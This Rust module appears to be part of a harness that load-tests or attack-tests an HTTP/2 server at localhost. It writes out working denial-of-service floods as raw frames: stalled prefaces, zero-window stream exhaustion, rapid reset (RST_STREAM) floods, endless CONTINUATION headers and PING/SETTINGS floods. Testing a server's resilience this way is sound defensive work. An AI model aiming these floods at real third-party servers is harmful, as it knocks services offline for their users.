//! Attacks on those who speak HTTP/2 (RFC 9113).

use super::attacker::Attacker;
use crate::failure::Result;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Types of frames.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The setting of a stream's first window, in a SETTINGS frame.
const NO_WINDOW: &[u8] = &[0, 4, 0, 0, 0, 0];
/// Streams that a server takes at once.
const STREAMS: u32 = 128;
/// The error `CANCEL`.
const CANCEL: &[u8] = &[0, 0, 0, 8];

/// Connections that stop in the middle of the preface, or of the first head.
pub(super) fn halves(attacker: &mut Attacker) -> Result<()> {
    let http = attacker.http;
    attacker.keep(http, 250, &PREFACE[..18]);
    let head = get(1, "/v1/health");
    let begun = [PREFACE, &frame(SETTINGS, 0, 0, b""), &head[..head.len() - 4]].concat();
    attacker.keep(http, 250, &begun);
    attacker.on_each(http, &begun, 250, |socket, _| socket.say(b""))
}

/// Large answers on many streams, whose windows are shut.
pub(super) fn windows(attacker: &mut Attacker) -> Result<()> {
    let mut polls = [PREFACE, &frame(SETTINGS, 0, 0, NO_WINDOW)].concat();
    for number in 0..STREAMS {
        polls.extend(get(2 * number + 1, "/big/json?poll=1&since=all&max=10000"));
    }
    let http = attacker.http;
    attacker.keep(http, 3, &polls);
    attacker.on_each(http, &polls, 100, |socket, _| {
        socket.say(b"");
        socket.hear();
    })
}

/// Requests that are taken back at once.
pub(super) fn resets(attacker: &mut Attacker) -> Result<()> {
    on_streams(attacker, 200, 50, |stream| {
        [get(stream, "/t/json?poll=1"), frame(RST_STREAM, 0, stream, CANCEL)].concat()
    })
}

/// Heads that go on and on.
pub(super) fn continuations(attacker: &mut Attacker) -> Result<()> {
    on_streams(attacker, 200, 1, |stream| {
        let head = frame(HEADERS, END_STREAM, stream, &[0x82]);
        let more = frame(CONTINUATION, 0, stream, &[0; 1000]);
        [head, more.repeat(20)].concat()
    })
}

/// Pings and settings that must be answered, and whose answers nobody reads.
pub(super) fn pings(attacker: &mut Attacker) -> Result<()> {
    let first = [PREFACE, &frame(SETTINGS, 0, 0, b"")].concat();
    let flood = [frame(PING, 0, 0, b"attacker"), frame(SETTINGS, 0, 0, b"")].concat().repeat(100);
    let http = attacker.http;
    attacker.keep(http, 4, &first);
    attacker.on_each(http, &first, 200, |socket, _| socket.say(&flood))
}

/// So many of these a step, each on a stream of its own, with one connection; a new one each time
/// that it was ended.
fn on_streams(
    attacker: &mut Attacker,
    per_second: u32,
    each: u32,
    say: impl Fn(u32) -> Vec<u8>,
) -> Result<()> {
    let first = [PREFACE, &frame(SETTINGS, 0, 0, b"")].concat();
    let http = attacker.http;
    let mut next = 1;
    attacker.on_each(http, &first, per_second, |socket, _| {
        for _ in 0..each {
            socket.say(&say(next));
            next += 2;
        }
        socket.hear();
        if socket.is_closed {
            next = 1;
        }
    })
}

/// A request for a path.
fn get(stream: u32, path: &str) -> Vec<u8> {
    // `:method GET`, `:scheme http`, then path and authority as they are.
    let length = path.len() as u8;
    let block = [&[0x82, 0x86, 0x04, length], path.as_bytes(), &[0x01, 9], b"localhost"].concat();
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
